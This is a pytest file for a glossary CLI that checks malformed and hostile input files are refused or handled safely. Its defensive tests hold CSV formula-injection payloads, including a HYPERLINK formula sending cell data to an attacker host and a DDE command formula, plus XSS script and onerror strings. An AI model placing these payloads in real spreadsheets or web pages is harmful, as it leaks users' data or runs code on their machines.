"""Hostile input: every malformed file in tests/data/bad gets one clear line, exit 2, no change.

Table-driven over the corpus: each file is given to the commands that read its kind (a PO
as the catalogue's template to ``lookup``, as a locale file to ``update``, to ``import``,
to ``check`` and to ``validate``; TBX and CSV to ``import``; XLIFF and TSV to ``check``;
text to ``mine`` and ``annotate``). Each run must exit 2 with exactly one line on stderr,
``Error: <file>:<line>: …``, print nothing else, raise nothing, and leave every file of
the catalogue (and the input) byte for byte as it was. ``validate`` reports the file as a
finding with its line instead. The big inputs (a 10 MB line, a million empty entries, a
2 GiB text) are made at test time. ``accepted/`` holds inputs that are hostile but valid:
they must work, and nothing in them may be interpreted (formulas, markup, DTD URLs).
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from glossarykit.cli import cli
from glossarykit.formats.csvfile import FIXED_COLUMNS
from glossarykit.services.catalogue import LOCK_NAME, load_catalogue, save_catalogue

from .conftest import DATA

CORPUS = DATA / "bad"
VALID = DATA / "valid"
TEMPLATE = Path("glossary") / "glossary.pot"
EN_PO = Path("locales") / "en" / "LC_MESSAGES" / "glossary.po"


@dataclass(frozen=True)
class Case:
    """One malformed file: the line its error names (None where no line is meaningful),
    a fragment of the message, and the line of its ``validate`` finding if that differs."""

    file: str
    line: int | None
    says: str
    validate_line: int | None = None

    def __str__(self) -> str:
        return self.file


PO_CASES = [
    Case("po/unterminated-string.po", 11, "unterminated string"),
    Case("po/unterminated-continuation.po", 12, "unterminated string"),
    Case("po/truncated.po", 15, "unterminated string"),
    Case("po/redos-octal-escapes.po", 11, "unterminated string"),
    Case("po/bad-escape.po", 11, "invalid escape sequence"),
    Case("po/missing-msgstr.po", 12, "not a well-formed PO file"),
    Case("po/msgstr-without-msgid.po", 10, "not a well-formed PO file"),
    Case("po/msgctxt-without-msgid.po", 11, "not a well-formed PO file"),
    Case("po/keyword-typo.po", 11, "unexpected text 'msgstrr"),
    Case("po/stray-text.po", 18, "unexpected text 'this line"),
    Case("po/bad-plural-index.po", 12, "expected a quoted string"),
    Case("po/header-unquoted.po", 3, "unexpected text 'Project-Id-Version"),
    Case("po/broken-header.po", 3, "a header line without `Name:`"),
    Case("po/header-repeated-field.po", 6, "the header names Language twice"),
    Case("po/duplicate-entry.po", 18, "duplicate entry msgid “三社联动”", 19),
    Case("po/duplicate-definition.po", 18, "duplicate entry msgctxt “definition|"),
    Case("po/duplicate-header.po", 18, 'duplicate header entry (msgid ""'),
    Case("po/empty.po", 1, "holds no PO entries"),
    Case("po/header-only-comment.po", 1, "holds no PO entries"),
    Case("po/nul-byte.po", 10, "NUL byte"),
    Case("po/binary.po", 3, "NUL byte"),
    Case("po/invalid-utf8.po", 10, "not valid UTF-8"),
    Case("po/lone-surrogate.po", 10, "not valid UTF-8"),
    Case("po/gbk-bytes.po", 11, "not valid UTF-8"),
    Case("po/gbk-charset.po", 11, "not valid UTF-8"),
    Case("po/utf16-le-bom.po", 1, "UTF-16"),
    Case("po/utf16-be-bom.po", 1, "UTF-16"),
    Case("po/utf16-no-bom.po", 1, "NUL byte"),
    Case("po/utf8-bom.po", 1, "byte-order mark"),
    Case("po/cr-line-endings.po", 1, "carriage return"),
]
TBX_CASES = [
    Case("tbx/not-well-formed.tbx", 11, "not well-formed XML"),
    Case("tbx/truncated.tbx", 12, "not well-formed XML"),
    Case("tbx/not-xml.tbx", 1, "not well-formed XML"),
    Case("tbx/empty.tbx", 1, "not well-formed XML"),
    Case("tbx/nul-byte.tbx", 10, "not well-formed XML"),
    Case("tbx/gbk-bytes.tbx", 10, "not well-formed XML"),
    Case("tbx/wrong-root.tbx", 2, "not a TBX file (the root element is <html>)"),
    Case("tbx/wrong-namespace.tbx", 2, "not a TBX file"),
    Case("tbx/v3-wrong-namespace.tbx", 2, "not a TBX file"),
    Case("tbx/no-body.tbx", 2, "has no <text><body>"),
    Case("tbx/missing-language.tbx", 12, "a <langSet> without xml:lang"),
    Case("tbx/missing-source-language.tbx", 9, "a <langSet> without xml:lang"),
    # libxml2 refuses the expansion itself, or parse_xml refuses the DOCTYPE after it.
    Case("tbx/billion-laughs.tbx", 1, "entit"),
    Case("tbx/xxe-local-file.tbx", 1, "entit"),
    Case("tbx/xxe-parameter-entity.tbx", 1, "entit"),
    Case("tbx/external-dtd-url.tbx", 1, "external DTD"),
    Case("tbx/external-dtd-public.tbx", 1, "external DTD"),
    Case("tbx/deep-nesting.tbx", 11, "depth"),
]
CSV_CASES = [
    Case("csv/wrong-header.csv", 1, "the header must start with id,zh"),
    Case("csv/no-header.csv", 1, "the header must start with id,zh"),
    Case("csv/empty.csv", 1, "the header must start with id,zh"),
    Case("csv/duplicate-column.csv", 1, "columns 5 and 16 both hold 'en'"),
    Case("csv/ragged-row-long.csv", 2, "the row has 17 cells, the header 15"),
    Case("csv/ragged-row-short.csv", 2, "the row has 5 cells, the header 15"),
    Case("csv/unclosed-quote.csv", 3, "not well-formed CSV"),
    Case("csv/gbk.csv", 2, "not valid UTF-8"),
    Case("csv/utf16.csv", 1, "UTF-16"),
    Case("csv/nul-byte.csv", 2, "NUL byte"),
    Case("csv/binary.csv", 1, "NUL byte"),
]
XLIFF_CASES = [
    Case("xliff/not-well-formed.xlf", 7, "not well-formed XML"),
    Case("xliff/truncated.xlf", 7, "not well-formed XML"),
    Case("xliff/empty.xlf", 1, "not well-formed XML"),
    Case("xliff/nul-byte.xlf", 6, "not well-formed XML"),
    Case("xliff/invalid-utf8.xlf", 6, "not well-formed XML"),
    Case("xliff/wrong-root.xlf", 2, "is not XLIFF"),
    Case("xliff/unsupported-version.xlf", 2, "XLIFF version 3.0"),
    Case("xliff/billion-laughs.xlf", 1, "entit"),
    Case("xliff/xxe-local-file.xlf", 1, "entit"),
    Case("xliff/deep-nesting.xlf", 7, "depth"),
]
TSV_CASES = [
    Case("tsv/no-tab.tsv", 2, "has no TAB"),
    Case("tsv/binary.tsv", 1, "is binary"),
    Case("tsv/utf16-no-bom.tsv", 1, "is binary"),
    Case("tsv/bom-utf16-odd.tsv", 1, "does not decode as utf-16"),
    Case("tsv/latin1.tsv", 2, "neither UTF-8 nor GB18030"),
    Case("tsv/shift-jis.tsv", 2, "neither UTF-8 nor GB18030"),
    Case("tsv/empty.tsv", None, "holds no text"),
]
TEXT_CASES = [
    Case("text/binary.txt", 3, "is binary"),
    Case("text/utf16-no-bom.txt", 2, "is binary"),
    Case("text/utf16-bom-truncated.txt", 1, "does not decode as utf-16"),
    Case("text/latin1.txt", 2, "neither UTF-8 nor GB18030"),
    Case("text/shift-jis.txt", 1, "neither UTF-8 nor GB18030"),
    Case("text/lone-surrogate.txt", 2, "neither UTF-8 nor GB18030"),
    Case("text/empty.txt", None, "holds no text"),
    Case("text/whitespace-only.txt", None, "holds no text"),
]
ALL_CASES = PO_CASES + TBX_CASES + CSV_CASES + XLIFF_CASES + TSV_CASES + TEXT_CASES


# ---------------------------------------------------------------- helpers


def invoke(*args: str) -> Result:
    """Run the CLI as a user would, exceptions caught (a crash must show as a failure)."""
    return CliRunner().invoke(cli, list(args))


def checksums(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder`` (the lock file left out: it holds no data;
    a sparse giant by its size and modification time: hashing it would take seconds)."""
    sums = {}
    for path in sorted(folder.rglob("*")):
        if not path.is_file() or path.name == LOCK_NAME:
            continue
        info = path.stat()
        if info.st_size > 64 * 1024**2:
            sums[path.relative_to(folder).as_posix()] = (
                f"{info.st_size}:{info.st_mtime_ns}"
            )
        else:
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            sums[path.relative_to(folder).as_posix()] = digest
    return sums


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Path]:
    """A small valid catalogue in ``tmp_path/cat``; every file under ``tmp_path`` (the
    catalogue and the hostile inputs put there) must be unchanged when the test ends."""
    shutil.copytree(VALID, tmp_path / "cat")
    (tmp_path / "in").mkdir()
    yield tmp_path


def place(workspace: Path, case: Case, where: Path | None = None) -> Path:
    """Copy the case's file into the workspace (as ``where`` in the catalogue, or as input)."""
    target = workspace / "cat" / where if where else workspace / "in" / Path(case.file)
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(CORPUS / case.file, target)
    return target


def assert_refused(
    result: Result, path: Path, line: int | None, says: str, exit_code: int = 2
) -> None:
    """Exit 2, one ``Error: <path>:<line>: …`` line on stderr, nothing on stdout, no crash."""
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        result.exception
    )
    assert "Traceback" not in result.output
    assert "internal error" not in result.output
    assert result.exit_code == exit_code, result.output
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines
    where = f"{path}:{line}: " if line else f"{path}: "
    assert lines[0].startswith(f"Error: {where}"), lines[0]
    assert says in lines[0], lines[0]
    assert len(lines[0]) < 400  # the message never echoes the hostile input itself


def unchanged(workspace: Path) -> Callable[[], None]:
    """Take the checksums now; the returned function asserts they still hold."""
    before = checksums(workspace)

    def check() -> None:
        assert checksums(workspace) == before

    return check


# ---------------------------------------------------------------- the corpus


def test_the_corpus_is_large_and_every_file_is_in_the_table() -> None:
    files = {
        p.relative_to(CORPUS).as_posix()
        for p in CORPUS.rglob("*")
        if p.is_file() and "accepted" not in p.parts and p.name != "README.md"
    }
    assert files == {c.file for c in ALL_CASES}
    assert len(files) >= 60
    # Kept small: the big inputs are made at test time.
    assert sum((CORPUS / f).stat().st_size for f in files) < 256 * 1024


@pytest.mark.parametrize("case", PO_CASES, ids=str)
def test_po_as_the_template_of_lookup(workspace: Path, case: Case) -> None:
    path = place(workspace, case, TEMPLATE)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "lookup", "三社联动")
    assert_refused(result, path, case.line, case.says)
    same()


@pytest.mark.parametrize("case", PO_CASES, ids=str)
def test_po_as_a_locale_file_of_update(workspace: Path, case: Case) -> None:
    path = place(workspace, case, EN_PO)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "update")
    assert_refused(result, path, case.line, case.says)
    same()


@pytest.mark.parametrize("case", PO_CASES, ids=str)
def test_po_given_to_import(workspace: Path, case: Case) -> None:
    path = place(workspace, case)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "import", str(path))
    assert_refused(result, path, case.line, case.says)
    same()


@pytest.mark.parametrize("case", PO_CASES, ids=str)
def test_po_given_to_check(workspace: Path, case: Case) -> None:
    path = place(workspace, case)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "check", str(path))
    assert_refused(result, path, case.line, case.says)
    same()


@pytest.mark.parametrize("case", PO_CASES, ids=str)
def test_po_given_to_validate_is_a_finding_with_its_line(
    workspace: Path, case: Case
) -> None:
    path = place(workspace, case)
    same = unchanged(workspace)
    result = invoke("validate", str(path))
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "internal error" not in result.output
    assert result.exit_code == 1
    line = case.validate_line or case.line
    assert any(
        finding.startswith(f"{path}:{line}: error [")
        for finding in result.stdout.splitlines()
    ), result.stdout
    same()


@pytest.mark.parametrize("case", TBX_CASES + CSV_CASES, ids=str)
def test_tbx_and_csv_given_to_import(workspace: Path, case: Case) -> None:
    path = place(workspace, case)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "import", str(path))
    assert_refused(result, path, case.line, case.says)
    # --theirs would write whatever was read: it must be refused all the same.
    result = invoke(
        "--catalogue", str(workspace / "cat"), "import", str(path), "--theirs"
    )
    assert_refused(result, path, case.line, case.says)
    same()


@pytest.mark.parametrize("case", XLIFF_CASES + TSV_CASES, ids=str)
def test_xliff_and_tsv_given_to_check(workspace: Path, case: Case) -> None:
    path = place(workspace, case)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "check", str(path))
    assert_refused(result, path, case.line, case.says)
    same()


@pytest.mark.parametrize("command", ["mine", "annotate"])
@pytest.mark.parametrize("case", TEXT_CASES, ids=str)
def test_text_given_to_mine_and_annotate(
    workspace: Path, case: Case, command: str
) -> None:
    path = place(workspace, case)
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), command, str(path))
    assert_refused(result, path, case.line, case.says)
    if command == "mine":
        # --add writes the template: the lock is taken, and still nothing changes.
        result = invoke(
            "--catalogue", str(workspace / "cat"), "mine", str(path), "--add"
        )
        assert_refused(result, path, case.line, case.says)
    same()


# ---------------------------------------------------------------- big inputs, made here


def test_a_10_mb_line_is_refused_quickly_with_its_line(workspace: Path) -> None:
    template = workspace / "cat" / TEMPLATE
    header = (VALID / TEMPLATE).read_text(encoding="utf-8").split("\n\n")[0]
    lines = header.count("\n") + 1
    # An unterminated 10 MB string, as a crash in the middle of a write would leave it.
    template.write_text(
        f'{header}\n\nmsgid "三社联动"\nmsgstr "{"x" * 10_000_000}\n', encoding="utf-8"
    )
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "lookup", "三社联动")
    assert_refused(result, template, lines + 3, "unterminated string")
    same()


def test_a_million_empty_entries_are_refused_at_the_second_header(
    workspace: Path,
) -> None:
    template = workspace / "cat" / TEMPLATE
    header = (VALID / TEMPLATE).read_text(encoding="utf-8").split("\n\n")[0]
    first = header.split("\n").index('msgid ""') + 1
    template.write_text(
        header + '\n\nmsgid ""\nmsgstr ""\n' * 1_000_000, encoding="utf-8"
    )
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "update")
    second = header.count("\n") + 3
    assert_refused(
        result,
        template,
        second,
        f'duplicate header entry (msgid "", first at line {first})',
    )
    same()


@pytest.mark.parametrize("command", ["mine", "annotate"])
def test_an_enormous_text_is_refused_before_it_is_read(
    workspace: Path, command: str
) -> None:
    # 2 GiB, sparse: it takes no disk, and reading it would take the memory.
    path = workspace / "in" / "enormous.txt"
    with open(path, "wb") as handle:
        handle.truncate(2 * 1024**3)
    same = unchanged(workspace)
    # -q: mine draws a progress bar for big inputs before it reads them.
    result = invoke("-q", "--catalogue", str(workspace / "cat"), command, str(path))
    assert_refused(
        result, path, None, "is 2,048 MiB; glossary reads texts of up to 64 MiB"
    )
    same()


def test_a_csv_cell_over_the_csv_module_limit_is_refused(workspace: Path) -> None:
    path = workspace / "in" / "huge-cell.csv"
    row = ["t-01", "三社联动", "", "", "x" * 200_000] + [""] * 10
    buffer = io.StringIO()
    csv.writer(buffer).writerows([list(FIXED_COLUMNS), row])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    same = unchanged(workspace)
    result = invoke("--catalogue", str(workspace / "cat"), "import", str(path))
    assert_refused(result, path, 2, "field larger than field limit")
    same()


# ---------------------------------------------------------------- hostile but valid


@pytest.mark.parametrize(
    "name", ["po/accepted/crlf.po", "po/accepted/mixed-line-endings.po"]
)
def test_crlf_and_mixed_line_endings_read_as_lf(workspace: Path, name: str) -> None:
    """msgfmt accepts them (Windows checkouts have them): they read exactly as LF."""
    lf = (CORPUS / name).read_bytes().replace(b"\r\n", b"\n")
    (workspace / "cat" / TEMPLATE).write_bytes(lf)
    expected = invoke("--catalogue", str(workspace / "cat"), "lookup", "三社联动")
    shutil.copyfile(CORPUS / name, workspace / "cat" / TEMPLATE)
    result = invoke("--catalogue", str(workspace / "cat"), "lookup", "三社联动")
    assert expected.exit_code == 0
    assert (result.exit_code, result.stdout) == (0, expected.stdout)


def test_a_utf16_tbx_with_a_bom_reads_as_its_utf8_twin(workspace: Path) -> None:
    utf16 = CORPUS / "tbx" / "accepted" / "utf16-bom.tbx"
    twin = workspace / "in" / "utf8.tbx"
    twin.write_bytes(utf16.read_bytes().decode("utf-16").encode("utf-8"))
    same = unchanged(workspace)
    args = ("--catalogue", str(workspace / "cat"), "import", "--dry-run")
    result, expected = invoke(*args, str(utf16)), invoke(*args, str(twin))
    assert (result.exit_code, result.stdout) == (expected.exit_code, expected.stdout)
    assert result.exit_code == 0
    same()


def test_an_xliff_doctype_url_is_never_fetched(workspace: Path) -> None:
    """The DTD is neither loaded nor needed (and the autouse guard refuses sockets)."""
    path = CORPUS / "xliff" / "accepted" / "external-dtd-url.xlf"
    result = invoke("--catalogue", str(workspace / "cat"), "check", str(path))
    assert result.exit_code == 0, result.output
    assert result.stderr == "No findings in 1 segment (1 with glossary terms).\n"


def test_csv_formula_cells_are_imported_as_text_and_exported_escaped(
    workspace: Path,
) -> None:
    source = CORPUS / "csv" / "accepted" / "formula-cells.csv"
    cat = workspace / "cat"
    result = invoke("--catalogue", str(cat), "import", str(source))
    assert result.exit_code == 0, result.output
    concept = load_catalogue(cat).by_id("t-90")
    assert concept is not None
    english = load_catalogue(cat).translation(concept, "en")
    assert english is not None
    # Stored as the very text, nothing evaluated or stripped.
    assert english.target == '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")'
    assert english.alternatives == ["-2+3"]
    assert english.definition_target == "+cmd|' /C calc'!A0"
    assert english.notes == ["@SUM(1+1)"]
    exported = invoke("--catalogue", str(cat), "export", "--format", "csv")
    assert exported.exit_code == 0
    rows = {r[0]: r for r in csv.reader(io.StringIO(exported.stdout))}
    header = rows["id"]
    row = dict(zip(header, rows["t-90"], strict=True))
    assert row["en"] == '\'=HYPERLINK("http://attacker.invalid/?d="&A1,"click")'
    assert row["en_alt"] == "'-2+3"
    assert row["definition_en"] == "'+cmd|' /C calc'!A0"
    assert row["note"] == "'@SUM(1+1)"
    # and the escape comes off again on the way back in: a round trip changes nothing.
    again = workspace / "in" / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    same = unchanged(workspace)
    result = invoke("--catalogue", str(cat), "import", str(again))
    assert result.exit_code == 0, result.output
    same()


SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "</script><script>alert(2)</script>"
IMG = '<img src=x onerror="alert(3)">'


@pytest.fixture
def hostile_catalogue(tmp_path: Path) -> Path:
    """The valid catalogue with markup in a rendering and in both definitions."""
    root = tmp_path / "hostile"
    shutil.copytree(VALID, root)
    catalogue = load_catalogue(root)
    concept = catalogue.template.get("三社联动")
    assert concept is not None
    concept.definition = f"“三社”指社区{SCRIPT}"
    english = catalogue.locales["en"].get("三社联动")
    assert english is not None
    english.target = IMG
    english.definition = concept.definition
    english.definition_target = f"The three societies. {SCRIPT} {BREAKOUT}"
    for locale in catalogue.locales.values():
        other = locale.get("三社联动")
        if other is not None:
            other.definition = concept.definition
    save_catalogue(catalogue)
    return root


def _no_live_markup(page: str) -> None:
    for live in (SCRIPT, BREAKOUT, IMG, "alert(1)</script>", "<img src=x"):
        assert live not in page


def test_annotate_html_keeps_catalogue_markup_as_text(
    hostile_catalogue: Path, tmp_path: Path
) -> None:
    text = tmp_path / "report.txt"
    text.write_text("深化三社联动。\n", encoding="utf-8")
    result = invoke(
        "--catalogue", str(hostile_catalogue), "annotate", str(text), "--format", "html"
    )
    assert result.exit_code == 0, result.output
    _no_live_markup(result.stdout)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout
    assert "&lt;img src=x onerror=" in result.stdout


def test_site_keeps_catalogue_markup_as_text(
    hostile_catalogue: Path, tmp_path: Path
) -> None:
    out = tmp_path / "site"
    result = invoke("--catalogue", str(hostile_catalogue), "site", "-o", str(out))
    assert result.exit_code == 0, result.output
    for page in out.rglob("*.html"):
        _no_live_markup(page.read_text(encoding="utf-8"))


@pytest.mark.parametrize("command", [["validate"], ["export", "--format", "tbx"]])
def test_a_source_reference_to_a_fifo_or_device_is_not_read(
    tmp_path: Path, command: list[str]
) -> None:
    """``#:`` paths come from whoever wrote the catalogue: reading a FIFO would wait
    forever, and ``/dev/zero`` would fill the memory. Only regular files are read."""
    root = tmp_path / "cat"
    shutil.copytree(VALID, root)
    os.mkfifo(root / "glossary" / "sources" / "pipe")
    template = root / TEMPLATE
    text = template.read_text(encoding="utf-8")
    text = text.replace("#: glossary/sources/report.txt:3\n", "#: /dev/zero:3\n", 1)
    text = text.replace(
        "#: glossary/sources/report.txt:7\n", "#: glossary/sources/pipe:7\n"
    )
    template.write_text(text, encoding="utf-8")
    # In a process of its own: a regression must fail here, not hang the test run.
    result = subprocess.run(
        [sys.executable, "-m", "glossarykit", "--catalogue", str(root), *command],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "internal error" not in result.stderr
    if command == ["validate"]:
        assert result.returncode == 1
        assert "its cited source glossary/sources/pipe cannot be read" in result.stdout
    else:
        assert result.returncode == 0, result.stderr
        assert result.stdout.startswith("<?xml")
